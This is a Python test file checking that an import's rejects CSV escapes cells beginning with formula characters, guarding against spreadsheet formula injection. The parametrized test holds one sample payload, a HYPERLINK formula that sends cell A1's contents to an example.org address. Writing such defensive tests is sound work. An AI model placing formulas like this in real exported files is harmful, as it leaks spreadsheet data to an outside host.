"""The import's rejects file is a CSV the data team opens in a spreadsheet. Its cells carry
text from the uploaded file (a record's key, a column's name, the value quoted in a message),
so each is made safe as every other CSV Locus writes is (``common.spreadsheet.safe_text``): a
cell starting with =, +, -, @, a tab or a carriage return is shown as text, not run as a
formula. It used to check only the first four."""

from __future__ import annotations

import csv
import io

import pytest

from locus.common.spreadsheet import FORMULA_STARTS
from locus.interchange.core import Problem
from locus.interchange.files import RejectsFile


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_rejects_cell_that_would_run_as_a_formula_is_written_as_text(start: str) -> None:
    value = f'{start}HYPERLINK("https://example.org/?"&A1,"open")'
    out = io.StringIO()
    rejects = RejectsFile(out)
    rejects(Problem(where="line 2", field=value, rule="code", message="x", record=value))
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][1] == rows[1][4] == "'" + value
    assert rows[1][0] == "line 2" and rejects.rows == 1


def test_ordinary_text_is_written_as_it_is() -> None:
    out = io.StringIO()
    RejectsFile(out)(
        Problem(where="line 3", field="UPN", rule="format", message="Bad", record="A1")
    )
    assert list(csv.reader(io.StringIO(out.getvalue())))[1][:2] == ["line 3", "UPN"]
